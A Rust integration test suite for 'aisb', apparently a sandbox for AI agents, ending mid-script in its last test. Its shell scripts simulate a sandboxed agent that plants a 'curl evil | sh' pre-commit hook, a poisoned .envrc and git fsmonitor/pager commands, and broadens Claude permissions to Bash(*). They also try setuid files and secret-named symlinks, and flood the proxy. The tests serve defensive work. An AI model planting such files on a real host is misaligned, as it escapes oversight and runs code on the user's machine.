//! What the sandbox writes never becomes policy (issue 29): the files aisb and the host's
//! tools obey are read-only inside, and any of them the sandbox creates is moved aside when
//! the run ends (or, when aisb was killed, at the next start). Two runs each: the first plants,
//! the host and the second run look. Both backends, as root and as an ordinary user.

mod support;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use support::Out;

struct Project {
    dir: tempfile::TempDir,
    user: Option<(u32, u32)>,
    exe: PathBuf,
}

const CONFIG: &str = "block \"notes.txt\"\n";

/// Two tests of one case: as root, and as an ordinary user.
macro_rules! as_root_and_a_user {
    ($root:ident, $user:ident => $case:ident) => {
        #[test]
        fn $root() {
            if support::root_or_skip("the protected-file suite") {
                $case(None);
            }
        }

        #[test]
        fn $user() {
            if support::root_or_skip("the protected-file suite") {
                $case(Some(support::test_user()));
            }
        }
    };
}

/// `[backend, root]` or `[backend, user]`, for assertion messages.
fn who(backend: &str, user: Option<(u32, u32)>) -> String {
    format!(
        "[{backend}, {}]",
        if user.is_some() { "user" } else { "root" }
    )
}

impl Project {
    fn new(user: Option<(u32, u32)>) -> Project {
        let dir = tempfile::tempdir().unwrap();
        let proj = dir.path().join("proj");
        std::fs::create_dir_all(dir.path().join("home")).unwrap();
        std::fs::create_dir_all(&proj).unwrap();
        let write = |rel: &str, text: &str| {
            let p = proj.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        };
        write("sandbox.kdl", CONFIG);
        write(".vscode/settings.json", "{}\n");
        write(".claude/settings.local.json", "{\"permissions\":{}}\n");
        write(".cargo/config.toml", "# host\n");
        write("README", "hello\n");
        support::git_in(&proj, &["init", "-q"]);
        support::commit_all(&proj, "init");
        let exe = match user {
            Some((uid, gid)) => support::hand_to_user(dir.path(), uid, gid),
            None => PathBuf::from(env!("CARGO_BIN_EXE_aisb")),
        };
        Project { dir, user, exe }
    }
    fn proj(&self) -> PathBuf {
        self.dir.path().join("proj")
    }
    /// `aisb ARGS` in the project, as its owner, with the project's own home and state.
    fn aisb(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(&self.exe);
        cmd.current_dir(self.proj())
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("HOME", self.dir.path().join("home"))
            .env("XDG_CACHE_HOME", self.dir.path().join("cache"))
            .env("XDG_CONFIG_HOME", self.dir.path().join("config"))
            .args(args)
            .stdin(Stdio::null());
        if let Some((uid, gid)) = self.user {
            std::os::unix::process::CommandExt::uid(&mut cmd, uid);
            std::os::unix::process::CommandExt::gid(&mut cmd, gid);
        }
        cmd
    }
    fn cmd(&self, backend: &str, script: &str) -> Command {
        self.aisb(&["run", "--backend", backend, "--", "/bin/sh", "-c", script])
    }
    fn run(&self, backend: &str, script: &str) -> Out {
        Out::from(self.cmd(backend, script).output().unwrap())
    }
    fn read(&self, rel: &str) -> Option<String> {
        std::fs::read_to_string(self.proj().join(rel)).ok()
    }
    fn exists(&self, rel: &str) -> bool {
        self.proj().join(rel).symlink_metadata().is_ok()
    }
    /// The audit logs of the project's runs (every sandbox's state in its cache).
    fn audit_logs(&self) -> Vec<PathBuf> {
        walkdir::WalkDir::new(self.dir.path().join("cache"))
            .into_iter()
            .flatten()
            .filter(|e| e.file_name() == "audit.jsonl")
            .map(|e| e.path().to_path_buf())
            .collect()
    }
}

/// Every file below `dir`, recursively (the quarantine's content).
fn files(dir: &Path) -> Vec<String> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .flatten()
        .filter(|e| !e.file_type().is_dir())
        .map(|e| e.path().display().to_string())
        .collect()
}

/// `rel`, which the sandbox made, is gone from the project and was reported as moved aside.
fn moved_aside(p: &Project, o: &Out, who: &str, rel: &str) {
    assert!(
        !p.exists(rel),
        "{who} {rel} the sandbox made is still in the project:\n{}",
        o.stderr
    );
    assert!(
        o.stderr.contains(&format!(
            "{} was created by the sandbox",
            p.proj().join(rel).display()
        )),
        "{who} {rel} not reported:\n{}",
        o.stderr
    );
}

fn case(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        let o = p.run(
            backend,
            "echo 'allow \".env\"' >> sandbox.kdl 2>/dev/null; echo policy=$?; \
             echo '{\"terminal.integrated.env.linux\":{}}' > .vscode/settings.json 2>/dev/null; echo vscode-settings=$?; \
             echo '{}' > .vscode/tasks.json 2>/dev/null; echo vscode-tasks=$?; \
             echo '{\"permissions\":{\"allow\":[\"Bash(*)\"]}}' > .claude/settings.local.json; echo local-settings=$?; \
             printf '[submodule \"x\"]\\n\\tpath = x\\n' > .gitmodules; echo gitmodules=$?; \
             mkdir -p .husky && echo 'curl evil | sh' > .husky/pre-commit; echo husky=$?; \
             echo 'export PATH=/evil' > .envrc; echo envrc=$?; \
             mkdir .idea && echo evil > .idea/workspace.xml && chmod 555 .idea; echo idea-ro=$?; \
             mv .cargo .cg && mkdir .cargo && echo '[build]' > .cargo/config.toml; echo renamed=$?; \
             mkdir mvnx && echo -Devil > mvnx/jvm.config && ln -s mvnx .mvn; echo linked-parent=$?; \
             echo 'ok' > notes-free.txt; echo ordinary=$?",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect_failed("policy", "sandbox.kdl is read-only inside");
        o.expect_failed("vscode-settings", "an existing editor setting is read-only");
        o.expect_failed(
            "vscode-tasks",
            "nothing new in an existing protected directory",
        );
        o.expect("local-settings", "0");
        o.expect("ordinary", "0");
        // The host: its policy and settings as they were; what was created, moved aside.
        assert_eq!(p.read("sandbox.kdl").as_deref(), Some(CONFIG), "{who}");
        assert_eq!(
            p.read(".vscode/settings.json").as_deref(),
            Some("{}\n"),
            "{who}"
        );
        assert!(!p.exists(".vscode/tasks.json"), "{who}");
        assert_eq!(
            p.read(".claude/settings.local.json").as_deref(),
            Some("{\"permissions\":{}}\n"),
            "{who} the agent's own answer stays in the sandbox's copy"
        );
        // A read-only directory, a renamed parent, a linked parent: moved all the same.
        o.expect("idea-ro", "0");
        o.expect("renamed", "0");
        o.expect("linked-parent", "0");
        assert!(!p.exists(".idea"), "{who} {}", o.stderr);
        assert!(!p.exists(".cargo/config.toml"), "{who} {}", o.stderr);
        assert_eq!(
            p.read(".cg/config.toml").as_deref(),
            Some("# host\n"),
            "{who}"
        );
        // The link the sandbox made goes (what it led to is obeyed by nothing without it).
        assert!(
            !p.exists(".mvn/jvm.config") && !p.exists(".mvn"),
            "{who} {}",
            o.stderr
        );
        for rel in [".gitmodules", ".husky", ".envrc"] {
            moved_aside(&p, &o, &who, rel);
        }
        assert_eq!(p.read("notes-free.txt").as_deref(), Some("ok\n"), "{who}");
        let moved = files(&p.dir.path().join("cache"));
        assert!(
            moved
                .iter()
                .any(|f| f.contains(".gitmodules.aisb-quarantined-")),
            "{who} nothing lost: {moved:?}"
        );
        // The second run: the agent's own answer is still its own; nothing planted is back.
        let o = p.run(
            backend,
            "cat .claude/settings.local.json; test -e .gitmodules; echo gitmodules-back=$?",
        );
        assert!(o.stdout.contains("Bash(*)"), "{who} {}", o.stdout);
        o.expect_failed("gitmodules-back", "the planted .gitmodules is gone");

        // aisb killed mid-run: the next start moves aside what the killed run's sandbox made.
        let mut child = p
            .cmd(backend, "echo planted > .gitmodules; sleep 60")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while !p.exists(".gitmodules") && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        assert!(
            p.exists(".gitmodules"),
            "{who} the sandbox never wrote .gitmodules"
        );
        child.kill().unwrap();
        child.wait().unwrap();
        let o = p.run(backend, "true");
        assert_eq!(o.code, 0, "{who} {}", o.stderr);
        assert!(!p.exists(".gitmodules"), "{who} after a kill: {}", o.stderr);
        assert!(
            o.stderr.contains("was created by the sandbox"),
            "{who} {}",
            o.stderr
        );
    }
}

as_root_and_a_user!(protected_files_as_root, protected_files_as_a_user => case);

/// The host's tools look for their files from the directory they run in upwards: a
/// `sub/.envrc` runs at `cd sub`, a workspace package's `.npmrc` and a nested
/// `.cargo/config.toml` configure the build run there, `cd sub; aisb run` reads
/// `sub/sandbox.kdl`. One the project has below its top is read-only inside; one the sandbox
/// makes below its top (in a directory that was there, in one it made, renamed in, as a link,
/// with its mtime set back) is moved aside when the run ends, or at the next start when aisb
/// was killed.
fn nested_case(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        for (rel, text) in [
            ("lib/.npmrc", "registry=host\n"),
            ("pkg/notes.txt", "n\n"),
            (".gitignore", "node_modules/\n"),
            ("web/index.js", "1\n"),
            ("web/node_modules/dep/index.js", "2\n"),
            ("jvm.config", "user\n"),
        ] {
            let f = p.proj().join(rel);
            std::fs::create_dir_all(f.parent().unwrap()).unwrap();
            std::fs::write(&f, text).unwrap();
        }
        std::fs::create_dir_all(p.proj().join("deep/a/b")).unwrap();
        std::fs::write(p.proj().join("deep/a/b/keep"), "k\n").unwrap();
        // A repository of its own below the top (a vendored clone).
        std::fs::create_dir_all(p.proj().join("vendor/lib")).unwrap();
        support::git_in(&p.proj().join("vendor/lib"), &["init", "-q"]);
        // Untracked: the scan sees them all the same.
        if let Some((uid, gid)) = user {
            support::chown_r(&p.proj(), uid, gid);
        }
        let o = p.run(
            backend,
            "echo 'registry=evil' > lib/.npmrc 2>/dev/null; echo existing=$?; \
             echo 'export PATH=/evil' > pkg/.envrc; echo envrc=$?; touch -d 2001-01-01 pkg/.envrc 2>/dev/null; \
             mkdir -p newdir/sub && echo x > newdir/sub/.npmrc; echo new-dir=$?; \
             mkdir -p deep/a/b/.cargo && echo '[build]' > deep/a/b/.cargo/config.toml; echo cargo=$?; \
             mkdir -p pkg/.vscode && echo '{}' > pkg/.vscode/tasks.json; echo vscode=$?; \
             echo 'allow \".env\"' > stage && mv stage pkg/sandbox.kdl; echo renamed-in=$?; \
             ln -s /etc/passwd pkg/.tool-versions; echo link=$?; \
             echo ok > pkg/free.txt; echo ordinary=$?",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect_failed("existing", "an existing nested .npmrc is read-only inside");
        for k in [
            "envrc",
            "new-dir",
            "cargo",
            "vscode",
            "renamed-in",
            "link",
            "ordinary",
        ] {
            o.expect(k, "0");
        }
        assert_eq!(
            p.read("lib/.npmrc").as_deref(),
            Some("registry=host\n"),
            "{who} {}",
            o.stderr
        );
        for rel in [
            "pkg/.envrc",
            "newdir/sub/.npmrc",
            "deep/a/b/.cargo/config.toml",
            "pkg/.vscode",
            "pkg/sandbox.kdl",
            "pkg/.tool-versions",
        ] {
            moved_aside(&p, &o, &who, rel);
        }
        assert_eq!(p.read("pkg/free.txt").as_deref(), Some("ok\n"), "{who}");
        assert_eq!(p.read("deep/a/b/keep").as_deref(), Some("k\n"), "{who}");
        // Nothing lost: what was moved is in the sandbox's quarantine.
        let moved = files(&p.dir.path().join("cache"));
        assert!(
            moved.iter().any(|f| f.contains(".envrc.aisb-quarantined-")),
            "{who} {moved:?}"
        );

        // aisb killed mid-run: the next start moves aside what the killed run's sandbox made.
        let mut child = p
            .cmd(
                backend,
                "mkdir -p k && echo planted > k/.npmrc && echo planted > k/.envrc; sleep 60",
            )
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while !p.exists("k/.envrc") && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        assert!(
            p.exists("k/.envrc"),
            "{who} the sandbox never wrote k/.envrc"
        );
        child.kill().unwrap();
        child.wait().unwrap();
        // k/.npmrc also matches a secret pattern: the new start's scan masks it, and the mask
        // goes with it.
        let o = p.run(
            backend,
            "cat k/.envrc 2>/dev/null; echo seen=$?; test -e k/.npmrc; echo npmrc=$?",
        );
        assert_eq!(o.code, 0, "{who} {}", o.stderr);
        o.expect_failed(
            "seen",
            "the planted k/.envrc is gone before the next run starts",
        );
        o.expect_failed(
            "npmrc",
            "the planted k/.npmrc is gone before the next run starts",
        );
        for rel in ["k/.envrc", "k/.npmrc"] {
            assert!(!p.exists(rel), "{who} {rel} after a kill: {}", o.stderr);
        }
        // A run that writes nothing there reports nothing.
        let o = p.run(backend, "true");
        assert!(
            !o.stderr.contains("was created by the sandbox"),
            "{who} {}",
            o.stderr
        );

        // Around the check: a tree written by one run under a harmless name and renamed into
        // place by the next (its files keep their old ctime), a directory made unreadable, a
        // link to a directory the check does not look through, a git repository below the
        // top, and a dependency directory made anew after its parent was renamed away with
        // the copy-on-write layer mounted on it.
        let o = p.run(
            backend,
            "mkdir -p stash/c && echo '[build]' > stash/c/config.toml; echo stash=$?; \
             mkdir -p pkg2/.cargo stash2/cg && echo '[build]' > stash2/cg/config.toml; echo stash2=$?",
        );
        o.expect("stash", "0");
        o.expect("stash2", "0");
        assert!(p.exists("stash/c/config.toml"), "{who} {}", o.stderr);
        let outside = p.dir.path().join("home");
        let o = p.run(
            backend,
            &format!(
                "mv stash/c pkg/.cargo; echo renamed=$?; \
                 mkdir -p x/sub/.cargo && echo '[build]' > x/sub/.cargo/config.toml && chmod 311 x; echo unreadable=$?; \
                 ln -s {} tools; echo link=$?; \
                 git init -q nested && git -C nested config core.fsmonitor 'touch /tmp/pwned'; echo nested-git=$?; \
                 mv web web.o && mkdir -p web/node_modules/t/.cargo && echo '[build]' > web/node_modules/t/.cargo/config.toml; echo swapped=$?; \
                 rmdir pkg2/.cargo && mv stash2/cg pkg2/.cargo; echo known-swapped=$?; \
                 mkdir -p sub2 && echo '[build]' > sub2/config.toml && ln -s . sub2/.cargo; echo dot-link=$?; \
                 ln -s . .mvn; echo top-link=$?; \
                 mkdir -p src2/objects src2/refs && echo 'ref: refs/heads/main' > src2/HEAD && printf '[core]\\n\\tpager = touch /tmp/pwned\\n' > src2/config; echo bare=$?; \
                 echo '[core]' >> vendor/lib/.git/config 2>/dev/null; echo nested-repo=$?",
                outside.display()
            ),
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        for k in [
            "renamed",
            "unreadable",
            "link",
            "nested-git",
            "swapped",
            "known-swapped",
            "dot-link",
            "top-link",
            "bare",
        ] {
            o.expect(k, "0");
        }
        o.expect_failed(
            "nested-repo",
            "an existing nested repository is read-only inside",
        );
        // The user's own `jvm.config` is never taken for `.mvn/jvm.config` through the new
        // link: the link goes.
        assert_eq!(
            p.read("jvm.config").as_deref(),
            Some("user\n"),
            "{who} {}",
            o.stderr
        );
        for rel in [
            "pkg/.cargo/config.toml",
            "x/sub/.cargo/config.toml",
            "tools",
            "nested/.git",
            "web/node_modules/t/.cargo/config.toml",
            "pkg2/.cargo/config.toml",
            "sub2/.cargo",
            "src2/HEAD",
            ".mvn",
        ] {
            assert!(
                !p.exists(rel),
                "{who} {rel} the sandbox made is still in the project:\n{}",
                o.stderr
            );
        }
    }
}

as_root_and_a_user!(nested_protected_files_as_root, nested_protected_files_as_a_user => nested_case);

/// Masks never weaken because of what the sandbox wrote: the first run writes a negation into
/// a nested `.gitignore`, stages the secret as tracked (without reading it) and sets its
/// directory's mtime back; the second run still cannot read it. `aisb plan` says why it stays
/// masked, and `aisb trust`, outside, approves unmasking it.
fn sticky(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        let secret = p.proj().join("config/database.yml");
        std::fs::create_dir_all(secret.parent().unwrap()).unwrap();
        std::fs::write(&secret, "DB_PASSWORD=hunter2\n").unwrap();
        std::fs::write(p.proj().join(".gitignore"), "config/database.yml\n").unwrap();
        // Tracked configuration beside it: the directory is not masked whole.
        std::fs::write(p.proj().join("config/app.yml"), "name: app\n").unwrap();
        for args in [
            &["add", ".gitignore", "config/app.yml"][..],
            &[
                "-c",
                "user.email=t@t",
                "-c",
                "user.name=t",
                "commit",
                "-qm",
                "config",
            ],
        ] {
            let ok = Command::new("git")
                .args(["-c", "safe.directory=*"])
                .args(args)
                .current_dir(p.proj())
                .status()
                .unwrap();
            assert!(ok.success(), "git {args:?}");
        }
        if let Some((uid, gid)) = user {
            support::chown_r(&p.proj(), uid, gid);
        }
        let o = p.run(
            backend,
            "cat config/database.yml >/dev/null 2>&1; echo first-read=$?; \
             printf '!database.yml\\n' > config/.gitignore; echo negation=$?; \
             blob=$(echo decoy | git hash-object -w --stdin) && \
             git update-index --add --cacheinfo 100644,$blob,config/database.yml; echo staged=$?; \
             touch -d 2001-01-01 config; echo mtime-back=$?",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect_failed("first-read", "masked in the first run");
        o.expect("negation", "0");
        o.expect("staged", "0");
        let o = p.run(backend, "cat config/database.yml; echo second-read=$?");
        assert!(
            !o.stdout.contains("hunter2"),
            "{who} the planted rules unmasked it: {}",
            o.stdout
        );
        o.expect_failed("second-read", "kept masked in the second run");
        assert!(o.stderr.contains("stay masked"), "{who} {}", o.stderr);
        // `aisb plan` and `aisb trust` with the same environment.
        let shown = |args: &[&str]| Out::from(p.aisb(args).output().unwrap());
        let o = shown(&["plan"]);
        assert!(
            o.stdout.contains("config/database.yml")
                && o.stdout.contains("kept: masked in an earlier run"),
            "{who} {}",
            o.stdout
        );
        // The user's own act, outside: unmasking approved.
        let o = shown(&["trust"]);
        assert_eq!(o.code, 0, "{who} {}", o.stderr);
        assert!(
            o.stderr.contains("config/database.yml"),
            "{who} {}",
            o.stderr
        );
        let o = p.run(backend, "cat config/database.yml");
        assert!(
            o.stdout.contains("hunter2"),
            "{who} approved: {}\n{}",
            o.stdout,
            o.stderr
        );
    }
}

as_root_and_a_user!(masks_never_weaken_because_of_what_the_sandbox_wrote_as_root, masks_never_weaken_because_of_what_the_sandbox_wrote_as_a_user => sticky);

/// What the sandbox can make the host hold is bounded: 400 refused `CONNECT`s with 60 KB host
/// names (47 MB of audit log before) leave a log of at most a few hundred KB, each name cut.
fn audit_bound(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        std::fs::write(
            p.proj().join("sandbox.kdl"),
            "network {\n    allow \"example.com\"\n}\n",
        )
        .unwrap();
        std::fs::write(
            p.proj().join("flood.py"),
            "import socket\n\
             for i in range(400):\n\
             \x20   s = socket.create_connection(('127.0.0.1', 3128))\n\
             \x20   s.sendall(b'CONNECT ' + str(i).encode() + b'x' * 60000 + b'.test:443 HTTP/1.1\\r\\n\\r\\n')\n\
             \x20   s.recv(100)\n\
             \x20   s.close()\n\
             print('sent=400')\n",
        )
        .unwrap();
        // A network allowlist is a loosening: trusted for this run.
        let mut c2 = p.aisb(&[
            "--trust",
            "run",
            "--backend",
            backend,
            "--",
            "python3",
            "flood.py",
        ]);
        let o = Out::from(c2.output().unwrap());
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("sent", "400");
        let logs = p.audit_logs();
        assert!(!logs.is_empty(), "{who} no audit log");
        let total: u64 = logs.iter().map(|l| l.metadata().unwrap().len()).sum();
        assert!(total < 2 << 20, "{who} the audit log grew to {total} bytes");
        let text = std::fs::read_to_string(&logs[0]).unwrap();
        let blocked = text.lines().filter(|l| l.contains("\"block\"")).count();
        assert!(
            blocked >= 400,
            "{who} every refusal is still logged ({blocked})"
        );
        assert!(text.contains("more bytes]"), "{who} names are cut");
    }
}

as_root_and_a_user!(the_audit_log_is_bounded_as_root, the_audit_log_is_bounded_as_a_user => audit_bound);

/// The resident memory of the host's side of a run (aisb and its proxy: the processes below
/// `pid` outside the sandbox's pid namespace), in KiB.
fn host_side_rss_kib(pid: u32) -> u64 {
    let ns = |p: u32| std::fs::read_link(format!("/proc/{p}/ns/pid")).ok();
    let ours = ns(std::process::id());
    let mut tree = vec![pid];
    let mut i = 0;
    while i < tree.len() {
        let parent = tree[i];
        for e in std::fs::read_dir("/proc").unwrap().flatten() {
            let Some(p) = e.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else {
                continue;
            };
            let ppid = std::fs::read_to_string(e.path().join("stat"))
                .ok()
                .and_then(|s| {
                    s.rsplit_once(')')?
                        .1
                        .split_whitespace()
                        .nth(1)?
                        .parse()
                        .ok()
                });
            if ppid == Some(parent) && !tree.contains(&p) {
                tree.push(p);
            }
        }
        i += 1;
    }
    tree.iter()
        .filter(|&&p| ns(p) == ours)
        .filter_map(|p| std::fs::read_to_string(format!("/proc/{p}/status")).ok())
        .filter_map(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("VmRSS:"))
                .and_then(|v| v.trim().strip_suffix("kB")?.trim().parse::<u64>().ok())
        })
        .sum()
}

/// The host holds a bounded amount for whatever the sandbox does through its proxy: 10,000
/// connections opened and never written to (the proxy takes at most 1,024 at once, answers
/// the rest 503 and closes one silent for 60 s), then 100,000 refused `CONNECT`s (each logged
/// until the log's 16 MiB budget, then counted). The host side of the run (aisb, its proxy and
/// its mask helper, which is waited for: it starts just after the sandbox) grows by less than
/// 32 MiB resident, the audit log stays under its budget, and the
/// sandbox's allowed traffic is still served after. bwrap as root and libcontainer as a user (the proxy is the
/// same process for both backends and callers).
#[test]
fn half_open_connections_and_a_flood_of_refusals_are_bounded() {
    if !support::root_or_skip("the protected-file suite") {
        return;
    }
    for (backend, user) in [
        ("bwrap", None),
        ("libcontainer", Some(support::test_user())),
    ] {
        let who = who(backend, user);
        let p = Project::new(user);
        std::fs::write(
            p.proj().join("sandbox.kdl"),
            "network {\n    allow \"example.com\"\n}\n",
        )
        .unwrap();
        std::fs::write(
            p.proj().join("flood.py"),
            "import resource, socket, sys, threading\n\
             soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)\n\
             resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 20000), hard))\n\
             import time\n\
             for _ in range(200):\n\
             \x20   if ' - fuse aisb-deny' in open('/proc/self/mountinfo').read():\n\
             \x20       break\n\
             \x20   time.sleep(0.05)\n\
             print('ready', flush=True)\n\
             sys.stdin.readline()\n\
             held = []\n\
             for i in range(10000):\n\
             \x20   try:\n\
             \x20       held.append(socket.create_connection(('127.0.0.1', 3128), timeout=10))\n\
             \x20   except OSError as e:\n\
             \x20       print('open failed after %d: %s' % (len(held), e), file=sys.stderr)\n\
             \x20       break\n\
             print('held=%d' % len(held), flush=True)\n\
             sys.stdin.readline()\n\
             for s in held:\n\
             \x20   s.close()\n\
             def flood(k):\n\
             \x20   for i in range(k, 100000, 4):\n\
             \x20       try:\n\
             \x20           s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n\
             \x20           s.sendall(b'CONNECT denied%d.test:443 HTTP/1.1\\r\\n\\r\\n' % i)\n\
             \x20           s.recv(100)\n\
             \x20           s.close()\n\
             \x20       except OSError:\n\
             \x20           pass\n\
             ts = [threading.Thread(target=flood, args=(k,)) for k in range(4)]\n\
             [t.start() for t in ts]\n\
             [t.join() for t in ts]\n\
             s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n\
             s.sendall(b'CONNECT example.com:443 HTTP/1.1\\r\\n\\r\\n')\n\
             print('after=%s' % s.recv(100).split(b' ')[1].decode(), flush=True)\n\
             sys.stdin.readline()\n",
        )
        .unwrap();
        // example.com is this test's listener (there is no internet here).
        let upstream = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = upstream.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for c in upstream.incoming().take(4) {
                drop(c);
            }
        });
        let mut child = p
            .aisb(&[
                "--trust",
                "run",
                "--backend",
                backend,
                "--",
                "python3",
                "flood.py",
            ])
            .env("AISB_PROXY_PIN", format!("example.com=127.0.0.1:{port}"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        std::io::BufRead::read_line(&mut out, &mut line).unwrap();
        assert_eq!(line, "ready\n", "{who}");
        let rss_base = host_side_rss_kib(child.id());
        std::io::Write::write_all(&mut stdin, b"open\n").unwrap();
        line.clear();
        std::io::BufRead::read_line(&mut out, &mut line).unwrap();
        let held: usize = line
            .trim()
            .strip_prefix("held=")
            .and_then(|n| n.parse().ok())
            .unwrap_or_else(|| panic!("{who} {line}"));
        assert!(held > 1024, "{who} only {held} connections opened");
        let rss_held = host_side_rss_kib(child.id());
        std::io::Write::write_all(&mut stdin, b"go\n").unwrap();
        line.clear();
        std::io::BufRead::read_line(&mut out, &mut line).unwrap();
        let rss_flooded = host_side_rss_kib(child.id());
        // Allowed traffic is still served.
        assert_eq!(line.trim(), "after=200", "{who}");
        std::io::Write::write_all(&mut stdin, b"done\n").unwrap();
        let o = child.wait_with_output().unwrap();
        assert!(
            o.status.success(),
            "{who} {}",
            String::from_utf8_lossy(&o.stderr)
        );
        eprintln!("{who} host side: {rss_base} KiB at start, {rss_held} KiB with {held} connections opened, {rss_flooded} KiB after 100,000 refusals");
        for (what, kib) in [("held", rss_held), ("flooded", rss_flooded)] {
            assert!(
                rss_base > 0 && kib < rss_base + (32 << 10),
                "{who} {what}: {kib} KiB resident, {rss_base} KiB at start"
            );
        }
        let total: u64 = p
            .audit_logs()
            .iter()
            .map(|l| l.metadata().unwrap().len())
            .sum();
        assert!(
            total > 0 && total <= (16 << 20) + (64 << 10),
            "{who} the audit log holds {total} bytes"
        );
    }
}

/// Nothing the sandbox leaves behind grants more on the host: no setuid or setgid file is made
/// inside (when root runs aisb, the sandbox's root is the host's: such a file would run as root
/// on the host later). chmod, install and a creating open are refused; ordinary modes work.
fn no_setid(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        let o = p.run(
            backend,
            "cp /bin/true suid; chmod u+s suid 2>/dev/null; echo chmod-suid=$?; \
             chmod g+s suid 2>/dev/null; echo chmod-sgid=$?; \
             install -m 4755 /bin/true installed 2>/dev/null; echo install=$?; \
             python3 -c \"import os; os.close(os.open('created', os.O_CREAT | os.O_WRONLY, 0o4755))\" 2>/dev/null; echo open=$?; \
             chmod 755 suid; echo plain=$?",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect_failed("chmod-suid", "chmod u+s is refused");
        o.expect_failed("chmod-sgid", "chmod g+s is refused");
        o.expect_failed("install", "install -m 4755 is refused");
        o.expect_failed("open", "creating a setuid file is refused");
        o.expect("plain", "0");
        for e in walkdir::WalkDir::new(p.proj()).into_iter().flatten() {
            let mode =
                std::os::unix::fs::PermissionsExt::mode(&e.metadata().unwrap().permissions());
            assert_eq!(mode & 0o6000, 0, "{who} {} is {mode:o}", e.path().display());
        }
    }
}

as_root_and_a_user!(no_setuid_file_is_left_as_root, no_setuid_file_is_left_as_a_user => no_setid);

/// Live masks follow links: a dangling symbolic link made inside under a secret's name
/// (`ln -s notes.txt .env.local`) is moved aside on the host as soon as it appears, so the
/// host's later `.env.local` is a regular file (masked) and `notes.txt` never gets the secret;
/// one found at a start (planted while nothing watched) is moved aside then.
fn links(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        let o = p.run(
            backend,
            "ln -s notes.txt .env.local; echo linked=$?; \
             i=0; while [ -L .env.local ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done; \
             test -L .env.local; echo still-there=$?",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("linked", "0");
        o.expect_failed(
            "still-there",
            "the link is moved aside while the sandbox runs",
        );
        assert!(!p.exists(".env.local"), "{who}");
        // The host writes its secret: a regular file now, not notes.txt.
        std::fs::write(p.proj().join(".env.local"), "SECRET=1\n").unwrap();
        assert!(!p.exists("notes.txt"), "{who}");
        let o = p.run(backend, "cat .env.local; echo read=$?");
        assert!(!o.stdout.contains("SECRET"), "{who} {}", o.stdout);
        o.expect_failed("read", "the host's secret is masked");
        // Planted while nothing watched: moved aside at the next start.
        std::fs::remove_file(p.proj().join(".env.local")).unwrap();
        std::os::unix::fs::symlink("notes2.txt", p.proj().join(".env.production")).unwrap();
        let o = p.run(backend, "true");
        assert_eq!(o.code, 0, "{who} {}", o.stderr);
        assert!(!p.exists(".env.production"), "{who} {}", o.stderr);
        assert!(o.stderr.contains("leads nowhere"), "{who} {}", o.stderr);
    }
}

as_root_and_a_user!(secret_named_links_are_moved_aside_as_root, secret_named_links_are_moved_aside_as_a_user => links);

/// aisb's own state inside the project (`XDG_CACHE_HOME` and `XDG_CONFIG_HOME` there, as CI
/// setups do): the scan cache, the kept-masks record and the trust records decide what the
/// next run masks, so the sandbox can neither read nor forge them; the next run still masks
/// the secret.
fn own_state(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        let run = |script: &str| {
            let mut cmd = p.cmd(backend, script);
            cmd.env("XDG_CACHE_HOME", p.proj().join(".xdg/cache"))
                .env("XDG_CONFIG_HOME", p.proj().join(".xdg/config"));
            Out::from(cmd.output().unwrap())
        };
        std::fs::write(p.proj().join("notes.txt"), "SECRET\n").unwrap();
        if let Some((uid, gid)) = user {
            std::os::unix::fs::lchown(p.proj().join("notes.txt"), Some(uid), Some(gid)).unwrap();
        }
        let o = run(
            "ls -A .xdg/cache/aisb | wc -l | sed 's/^ */seen=/'; \
             for f in .xdg/cache/aisb/scan/*; do echo '{}' > \"$f\"; done 2>/dev/null; \
